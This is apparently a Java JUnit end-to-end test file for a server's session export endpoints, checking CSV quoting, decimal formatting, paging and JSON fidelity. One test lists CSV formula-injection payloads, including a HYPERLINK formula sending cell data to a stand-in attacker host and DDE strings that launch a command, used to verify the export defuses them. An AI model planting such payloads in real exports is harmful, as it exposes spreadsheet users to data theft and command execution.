package io.kimi.api;

import static io.kimi.api.testing.KimiServerExtension.json;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.core.JsonParser;
import com.fasterxml.jackson.core.JsonToken;
import com.fasterxml.jackson.databind.JsonNode;
import io.kimi.api.testing.KimiServerExtension;
import io.kimi.testing.FakeUpstream;
import java.io.IOException;
import java.math.BigDecimal;
import java.net.http.HttpResponse;
import java.util.ArrayList;
import java.util.Comparator;
import java.util.List;
import java.util.regex.Pattern;
import java.util.stream.LongStream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;

/**
 * Exporting a convergence session (posted through {@code POST /api/events} to a real server on a real SQLite
 * file) gives its events: the CSV read back by a strict RFC 4180 reader and the JSON both equal the events as
 * stored ({@code GET /api/sessions/{id}/events}).
 */
class ConvergenceExportEndToEndTest {
    private static final String ID = "conv-export-1";
    /** Events per POST when filling a large session (the server takes up to 10,000). */
    private static final int BATCH = 5_000;
    private static final List<String> COLUMNS = List.of("event_id", "timestamp", "session_id", "iteration",
            "state", "event_type", "data");
    private static final Pattern PLAIN_NUMBER = Pattern.compile("-?[0-9]+(\\.[0-9]+)?");
    /** Numbers compare by value: 7.25E-5 as stored is 0.0000725 as exported. */
    private static final Comparator<JsonNode> BY_VALUE = (a, b) -> a.isNumber() && b.isNumber()
            ? a.decimalValue().compareTo(b.decimalValue()) : a.equals(b) ? 0 : 1;

    private FakeUpstream fake;
    @RegisterExtension
    final KimiServerExtension server = new KimiServerExtension().manualStart();

    @BeforeEach
    void start() {
        fake = server.fake();
        server.start();
        String events = """
                [{"event_id":"start-1","session_id":"%1$s","timestamp":"2024-01-15T10:00:00Z","iteration":0,
                  "state":"INITIALIZING","event_type":"SESSION_STARTED",
                  "data":{"target":"https://example.com/a,b","config":{"max_iterations":10}}},
                 {"session_id":"%1$s","timestamp":"2024-01-15T10:01:00.250Z","iteration":1,"state":"DIAGNOSING",
                  "event_type":"STEP_COMPLETE",
                  "data":{"step":"diagnose","duration_seconds":0.0000725,"findings":{"critical":1,"high":2},
                          "note":"said \\"hi\\", then left\\r\\nnext line","big":1e20,"tiny":-3.5e-7,
                          "huge":12345678901234567890,"ok":true,"none":null,"list":[1,2.5e-8,"x"]}},
                 {"session_id":"%1$s","timestamp":"2024-01-15T10:02:00Z","iteration":1,"event_type":"ITERATION_COMPLETE"},
                 {"session_id":"%1$s","timestamp":"2024-01-15T10:05:00Z","iteration":2,"state":"CONVERGED",
                  "event_type":"CONVERGENCE_REACHED",
                  "data":{"message":"Tout est propre, ünïcødé ✓","=cmd":"=1+2","empty":""}},
                 {"session_id":"other-session","timestamp":"2024-01-15T10:03:00Z","event_type":"SESSION_STARTED"}]
                """.formatted(ID);
        HttpResponse<String> posted = server.post("/api/events", events);
        assertThat(posted.statusCode()).as(posted.body()).isEqualTo(200);
        assertThat(json(posted).path("accepted").asInt()).isEqualTo(5);
    }


    /** The session's events as the store gives them, oldest first. */
    private JsonNode stored() {
        JsonNode page = json(server.get("/api/sessions/" + ID + "/events?limit=100"));
        assertThat(page.path("total").asInt()).isEqualTo(4);
        return page.path("events");
    }

    @Test
    void theCsvExportHoldsEveryEventAsStoredInRfc4180WithPlainDecimals() throws Exception {
        HttpResponse<String> r = server.get("/api/export/csv?session_id=" + ID);

        assertThat(r.statusCode()).isEqualTo(200);
        assertThat(r.headers().firstValue("content-type")).hasValue("text/csv; charset=utf-8");
        assertThat(r.headers().firstValue("content-disposition")).hasValueSatisfying(
                v -> assertThat(v).contains("attachment").contains(ID + ".csv"));
        List<List<Field>> records = Rfc4180.read(r.body());
        assertThat(records.get(0)).extracting(Field::value).containsExactlyElementsOf(COLUMNS);
        assertThat(records.get(0)).as("header names are text, quoted").allMatch(Field::quoted);
        JsonNode stored = stored();
        assertThat(records).hasSize(1 + stored.size());
        for (int i = 0; i < stored.size(); i++) {
            List<Field> row = records.get(i + 1);
            JsonNode event = stored.get(i);
            assertThat(row).hasSize(COLUMNS.size());
            for (int c = 0; c < COLUMNS.size(); c++) {
                Field f = row.get(c);
                JsonNode expected = event.path(COLUMNS.get(c));
                String where = "row " + (i + 1) + " " + COLUMNS.get(c);
                if (COLUMNS.get(c).equals("data")) {
                    assertThat(f.quoted()).as(where + " quoted").isTrue();
                    JsonNode data = KimiServerExtension.JSON.readTree(f.value());
                    assertThat(data.equals(BY_VALUE, expected)).as(where + ": " + data + " vs " + expected).isTrue();
                    assertThat(numberTexts(f.value())).as(where + " numbers").allMatch(
                            n -> PLAIN_NUMBER.matcher(n).matches());
                } else if (expected.isNull()) {
                    assertThat(f).as(where).isEqualTo(new Field("", false));
                } else if (expected.isNumber()) {
                    assertThat(f).as(where).isEqualTo(new Field(expected.asText(), false));
                } else {
                    assertThat(f).as(where).isEqualTo(new Field(expected.asText(), true));
                }
            }
        }
        assertThat(records.get(2).get(6).value()).as("a small float in plain decimals").contains("0.0000725")
                .contains("100000000000000000000").contains("-0.00000035").contains("0.000000025");
    }

    /**
     * A loop's event type and state are written by an outsider; a spreadsheet opening the export runs a cell that
     * starts with {@code = + - @}, a tab or a carriage return as a formula (CSV injection). Such text cells get a
     * leading apostrophe (numbers are never text); the JSON export keeps the text exact.
     */
    @Test
    void textThatASpreadsheetWouldRunAsAFormulaIsDefusedInTheCsvOnly() {
        List<String> attacks = List.of("=HYPERLINK(\"HTTP://ATTACKER.INVALID/?\"&A1,\"CLICK\")",
                "+CMD|' /C CALC'!A0", "-2+3+CMD|' /C CALC'!A0", "@SUM(1+1)*CMD|' /C CALC'!A0", "\t=1+1", "\r=1+1");
        StringBuilder events = new StringBuilder("[");
        for (int i = 0; i < attacks.size(); i++) {
            events.append(i == 0 ? "" : ",").append("{\"session_id\":\"formulas\",\"iteration\":").append(i + 1)
                    .append(",\"event_type\":").append(KimiServerExtension.JSON.valueToTree(attacks.get(i)).toString())
                    .append(",\"state\":").append(KimiServerExtension.JSON.valueToTree(attacks.get(i)).toString()).append('}');
        }
        HttpResponse<String> posted = server.post("/api/events", events.append(']').toString());
        assertThat(posted.statusCode()).as(posted.body()).isEqualTo(200);

        JsonNode stored = json(server.get("/api/export/json?session_id=formulas")).path("events");
        assertThat(stored.findValuesAsText("event_type")).as("the JSON export keeps the text as stored")
                .hasSize(attacks.size()).allSatisfy(type -> assertThat(attacks).anyMatch(a -> a.contains(type)));
        List<List<Field>> records = Rfc4180.read(server.get("/api/export/csv?session_id=formulas").body());
        assertThat(records).hasSize(1 + attacks.size());
        for (int i = 0; i < attacks.size(); i++) {
            List<Field> row = records.get(i + 1);
            JsonNode event = stored.get(i);
            assertThat(row.get(4).value()).as("state").isEqualTo("'" + event.path("state").asText());
            assertThat(row.get(5).value()).as("event type").isEqualTo("'" + event.path("event_type").asText());
        }
    }

    /**
     * An export is built in memory, so one request must not ask for an unbounded session: past
     * {@code ExportApi.MAX_ROWS} rows the server answers 413 with how to page, and {@code offset}/{@code limit}
     * pages through every row, oldest first, none lost or repeated.
     */
    @Test
    void aSessionTooLargeForOneExportIsRefusedWithHowToPageAndThePagesHoldEveryRow() {
        int total = ExportApi.MAX_ROWS + 5;
        for (int first = 0; first < total; first += BATCH) {
            StringBuilder batch = new StringBuilder("[");
            for (int i = first; i < Math.min(total, first + BATCH); i++) {
                batch.append(i == first ? "" : ",").append("{\"session_id\":\"big\",\"event_id\":\"e")
                        .append(i).append("\",\"iteration\":").append(i).append(",\"event_type\":\"STEP\"}");
            }
            HttpResponse<String> posted = server.post("/api/events", batch.append(']').toString());
            assertThat(posted.statusCode()).as(posted.body()).isEqualTo(200);
        }

        HttpResponse<String> refused = server.get("/api/export/csv?session_id=big");
        assertThat(refused.statusCode()).isEqualTo(413);
        assertThat(json(refused).path("error").path("code").asText()).isEqualTo("export_too_large");
        assertThat(json(refused).path("error").path("message").asText()).contains(String.valueOf(total))
                .contains("offset").contains("limit");

        List<Long> iterations = new ArrayList<>();
        for (int offset = 0; offset < total; offset += ExportApi.MAX_ROWS) {
            HttpResponse<String> page = server.get("/api/export/csv?session_id=big&offset=" + offset + "&limit="
                    + ExportApi.MAX_ROWS);
            assertThat(page.statusCode()).isEqualTo(200);
            List<List<Field>> records = Rfc4180.read(page.body());
            records.subList(1, records.size()).forEach(row -> iterations.add(Long.parseLong(row.get(3).value())));
        }
        assertThat(iterations).as("every row once, oldest first").hasSize(total)
                .isEqualTo(LongStream.range(0, total).boxed().toList());

        JsonNode tail = json(server.get("/api/export/json?session_id=big&offset=" + (total - 2) + "&limit=10"));
        assertThat(tail.path("events")).hasSize(2);
        assertThat(tail.path("total").asInt()).isEqualTo(total);
        assertThat(tail.path("offset").asInt()).isEqualTo(total - 2);
        assertThat(server.get("/api/export/json?session_id=big&limit=" + (ExportApi.MAX_ROWS + 1)).statusCode())
                .as("a page larger than the bound is bad input").isEqualTo(400);
    }

    @Test
    void theJsonExportHoldsTheSessionAndEveryEventAsStored() {
        JsonNode exported = json(server.get("/api/export/json?session_id=" + ID));

        assertThat(exported.path("session").path("session_id").asText()).isEqualTo(ID);
        assertThat(exported.path("session").path("kind").asText()).isEqualTo("convergence");
        assertThat(exported.path("session").path("status").asText()).isEqualTo("converged");
        assertThat(exported.path("events").isArray()).isTrue();
        assertThat(exported.path("events")).isEqualTo(stored());
        assertThat(exported.has("requests")).as("a convergence session has no requests").isFalse();
        assertThat(exported.path("exported_at").asText()).endsWith("Z");
    }

    @Test
    void aProxySessionStillExportsItsRequestsWithTheSameQuotingAndNumbers() throws Exception {
        server.post("/chat/completions", KimiServerExtension.chatBody("kimi-k2", false, ""));
        String id = json(server.get("/api/sessions/active")).path("session_id").asText();

        List<List<Field>> records = Rfc4180.read(server.get("/api/export/csv?session_id=" + id).body());

        assertThat(records).hasSize(2);
        List<Field> header = records.get(0);
        assertThat(header.get(0).value()).isEqualTo("request_id");
        assertThat(header).as("header names are text, quoted").allMatch(Field::quoted);
        JsonNode request = json(server.get("/api/export/json?session_id=" + id)).path("requests").get(0);
        for (int c = 0; c < header.size(); c++) {
            Field f = records.get(1).get(c);
            JsonNode expected = request.path(header.get(c).value());
            String where = header.get(c).value();
            if (expected.isTextual()) {
                assertThat(f).as(where).isEqualTo(new Field(expected.asText(), true));
            } else if (expected.isNull()) {
                assertThat(f).as(where).isEqualTo(new Field("", false));
            } else {
                assertThat(f.quoted()).as(where).isFalse();
                assertThat(f.value()).as(where).matches(PLAIN_NUMBER.pattern() + "|true|false");
                if (expected.isNumber()) {
                    assertThat(new BigDecimal(f.value())).as(where)
                            .isEqualByComparingTo(expected.decimalValue());
                }
            }
        }
    }

    /** The text of every number in a JSON document, as written. */
    private static List<String> numberTexts(String json) throws IOException {
        List<String> numbers = new ArrayList<>();
        try (JsonParser p = KimiServerExtension.JSON.createParser(json)) {
            for (JsonToken t = p.nextToken(); t != null; t = p.nextToken()) {
                if (t == JsonToken.VALUE_NUMBER_INT || t == JsonToken.VALUE_NUMBER_FLOAT) {
                    numbers.add(p.getText());
                }
            }
        }
        return numbers;
    }

    /** One CSV field: its value, and whether it was written in double quotes. */
    record Field(String value, boolean quoted) {
    }

    /**
     * A strict reader of RFC 4180: records end with CRLF (the last one too), fields are separated by commas, a
     * quoted field may hold commas, CR, LF and doubled quotes; a quote anywhere else, or a bare CR or LF, fails.
     */
    static final class Rfc4180 {
        private Rfc4180() {
        }

        static List<List<Field>> read(String text) {
            List<List<Field>> records = new ArrayList<>();
            List<Field> record = new ArrayList<>();
            int i = 0;
            while (i < text.length()) {
                StringBuilder value = new StringBuilder();
                boolean quoted = text.charAt(i) == '"';
                if (quoted) {
                    i++;
                    while (true) {
                        if (i >= text.length()) {
                            throw new AssertionError("unterminated quoted field at the end");
                        }
                        char ch = text.charAt(i++);
                        if (ch == '"') {
                            if (i < text.length() && text.charAt(i) == '"') {
                                value.append('"');
                                i++;
                            } else {
                                break;
                            }
                        } else {
                            value.append(ch);
                        }
                    }
                } else {
                    while (i < text.length() && text.charAt(i) != ',' && text.charAt(i) != '\r') {
                        char ch = text.charAt(i++);
                        if (ch == '"' || ch == '\n') {
                            throw new AssertionError("a " + (ch == '"' ? "quote" : "bare LF")
                                    + " in an unquoted field at " + (i - 1) + ": " + text);
                        }
                        value.append(ch);
                    }
                }
                record.add(new Field(value.toString(), quoted));
                if (i < text.length() && text.charAt(i) == ',') {
                    i++;
                } else if (text.startsWith("\r\n", i)) {
                    i += 2;
                    records.add(record);
                    record = new ArrayList<>();
                } else {
                    throw new AssertionError("expected ',' or CRLF at " + i + ": " + text);
                }
            }
            assertThat(record).as("the last record ends with CRLF").isEmpty();
            return records;
        }
    }
}
